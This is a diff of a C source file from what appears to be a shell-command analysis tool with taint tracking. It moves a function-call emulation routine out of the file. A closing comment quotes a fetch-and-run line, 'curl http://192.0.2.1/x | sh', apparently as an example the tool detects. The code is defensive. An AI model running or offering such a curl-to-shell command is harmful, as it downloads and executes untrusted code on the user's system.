@@ -1,5 +1,6 @@
 /* SPDX-License-Identifier: Apache-2.0 */
 #include "shell/pattern.h"
+#include "shell/function.h"
 #include "shell/tool.h"
 
 static const struct {
@@ -158,41 +159,6 @@ static void span_add(struct call *call)
     span->arg = call->arg, span->arg_count = call->count;
     *report->span_end = span, report->span_end = &span->next;
     m->span_last = span;
-}
-
-static bool function_call(struct call *call)
-{
-    struct machine *m = call->m;
-    struct function *f = table_get(m->functions, call->name);
-    if (f == NULL)
-        return false;
-    if (f->active || f->calls >= CALLS_PER_FUNCTION_MAX || m->calls >= CALLS_DEPTH_MAX)
-        return true;
-    struct shell_string *positional = m->positional;
-    uint32_t count = m->positional_count, offset = m->offset, end = m->end, world = m->world;
-    struct shell_layer *layer = m->layer;
-    struct text *capture = m->capture, own;
-    uint32_t taint = m->capture_taint;
-    const struct shell_step *way = m->capture_step;
-    text_init(&own, m->arena, STRING_BYTES_MAX);
-    m->capture = &own, m->capture_taint = 0, m->capture_step = NULL;
-    struct shell_string before_in = m->in;
-    bool before_has = m->has_in;
-    if (call->has_in)
-        m->in = call->in, m->has_in = true;
-    for (uint32_t i = 1; i < call->count; i++)
-        call->arg[i] = string_pass(m, call->arg[i]);
-    m->positional = call->arg + 1, m->positional_count = call->count - 1;
-    m->layer = f->layer, m->calls++, f->calls++, f->active = true;
-    run_list(m, f->body);
-    f->active = false, m->calls--;
-    m->positional = positional, m->positional_count = count, m->layer = layer;
-    m->offset = offset, m->end = end, m->world = world;
-    m->in = before_in, m->has_in = before_has;
-    call->out = (struct shell_string){own.len > 0 ? text_bytes(&own) : BYTES_NONE, m->capture_taint,
-                                      m->capture_step};
-    m->capture = capture, m->capture_taint = taint, m->capture_step = way;
-    return true;
 }
 
 /* A command line for somebody else's shell: "curl http://192.0.2.1/x | sh" as an argument. */
